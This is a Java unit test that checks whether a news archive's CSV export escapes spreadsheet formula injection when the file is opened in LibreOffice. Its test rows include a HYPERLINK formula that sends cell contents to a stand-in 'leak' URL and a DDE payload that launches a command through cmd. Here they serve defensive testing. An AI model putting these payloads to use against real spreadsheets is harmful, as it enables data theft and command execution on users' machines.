package org.newsarchive.etl.write;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.batch.infrastructure.item.Chunk;
import org.springframework.batch.infrastructure.item.ExecutionContext;

/**
 * CSV files with every hard case, written by the job's CSV writer and loaded into LibreOffice
 * Calc: they must arrive with the same rows, columns and text, and no cell may turn into a
 * formula. A file written with the escape switched off is the control: there LibreOffice does
 * make formulas, so the check can tell. Skipped where LibreOffice is not installed.
 */
class SpreadsheetRoundTripTest {

    private static final List<String> COLUMNS = List.of("article_id", "paragraph_index", "published_date", "text");
    private static final String LONG = "The harbour commission heard evidence all day. ".repeat(800); // 38,400 characters

    private static final List<List<Object>> ROWS = List.of(
            row(1, "“Curly quotes”, café, Straße, 中文 and an em dash — all in one cell."),
            row(2, "=HYPERLINK(\"http://example.test/?leak=\"&A1,\"Click for the full story\")"),
            row(3, "-State Department spokesman Ned Farrow said the talks would resume."),
            row(4, "+44 20 7946 0958 is the newsroom's number."),
            row(5, "@SUM(1+1)*cmd|' /C calc'!A0"),
            row(6, "\tTabbed lead-in"),
            row(7, "First line of a caption\nsecond line, with a comma\r\nthird line"),
            row(8, "\nstarts with a line break"),
            row(9, "'=already has an apostrophe"),
            row(10, LONG),
            row(11, "He said \"no\", twice; then \"yes\"."),
            row(12, "- Advertisement -"));

    private static List<Object> row(int index, String text) {
        return Arrays.asList("a1b2c3d4e5f60718", index, java.time.LocalDate.of(2025, 3, index), text);
    }

    private static Path write(Path folder, String name, CsvOptions options) throws Exception {
        Files.createDirectories(folder);
        RollingCsvWriter writer = new RollingCsvWriter(folder, name, COLUMNS, new CsvRowFormatter(options));
        writer.open(new ExecutionContext());
        writer.write(new Chunk<>(new ArrayList<>(ROWS)));
        writer.close();
        return folder.resolve(name);
    }

    @Test
    void libreOfficeShowsEveryHardCaseAsTheSameText(@TempDir Path dir) throws Exception {
        assumeTrue(LibreOffice.soffice().isPresent(), "LibreOffice (soffice) is not installed");
        Path safe = write(dir.resolve("csv"), "hard-cases.csv", CsvOptions.defaults());
        Path parted = write(dir.resolve("csv"), "parted.csv", new CsvOptions(true, true, 32_767, 5));
        Path unsafe = write(dir.resolve("csv"), "unsafe.csv", new CsvOptions(true, false, 32_767, 1_048_576));
        List<Path> files = LibreOffice.csvFilesIn(dir.resolve("csv"));
        assertThat(files).hasSize(5); // parted.csv, parted-part2.csv, parted-part3.csv

        Map<Path, Path> xlsx = LibreOffice.toXlsx(files, dir);

        Map<String, String> types = Map.of("paragraph_index", "integer", "published_date", "ISO date");
        assertThat(LibreOffice.assertSameAsCsv(safe, xlsx.get(safe), types)).isEqualTo(ROWS.size());
        int parts = 0;
        for (Path f : files) {
            if (f.getFileName().toString().startsWith("parted")) {
                parts += LibreOffice.assertSameAsCsv(f, xlsx.get(f), types);
            }
        }
        assertThat(parts).isEqualTo(ROWS.size());

        try (var workbook = new XSSFWorkbook(Files.newInputStream(xlsx.get(safe)))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("article_id"); // no BOM in the cell
            assertThat(sheet.getRow(0).getLastCellNum()).isEqualTo((short) 5);
            assertThat(text(sheet, 1)).isEqualTo("“Curly quotes”, café, Straße, 中文 and an em dash — all in one cell.");
            assertThat(text(sheet, 2)).isEqualTo("'=HYPERLINK(\"http://example.test/?leak=\"&A1,\"Click for the full story\")");
            assertThat(text(sheet, 3)).isEqualTo("'-State Department spokesman Ned Farrow said the talks would resume.");
            assertThat(text(sheet, 7)).isEqualTo("First line of a caption\nsecond line, with a comma\nthird line");
            assertThat(text(sheet, 10)).hasSize(CsvOptions.EXCEL_MAX_CELL_LENGTH).isEqualTo(LONG.substring(0, 32_767));
            assertThat(sheet.getRow(10).getCell(4).getStringCellValue()).isEqualTo("text");
            assertThat(sheet.getRow(1).getCell(4)).matches(c -> c == null || c.getCellType() == CellType.BLANK);
            for (int r = 1; r <= ROWS.size(); r++) {
                String original = (String) ROWS.get(r - 1).get(3);
                String expected = SpreadsheetCells.unixLineBreaks(original);
                assertThat(SpreadsheetCells.unneutralize(text(sheet, r))).as("row %d back to the database's text", r)
                        .isEqualTo(r == 10 ? expected.substring(0, 32_767) : expected);
            }
        }

        // the control: unescaped, LibreOffice turns the would-be formulas into formulas
        try (var workbook = new XSSFWorkbook(Files.newInputStream(xlsx.get(unsafe)))) {
            assertThat(workbook.getSheetAt(0).getRow(2).getCell(3).getCellType()).isEqualTo(CellType.FORMULA);
        }
    }

    private static String text(Sheet sheet, int row) {
        return sheet.getRow(row).getCell(3).getStringCellValue();
    }
}
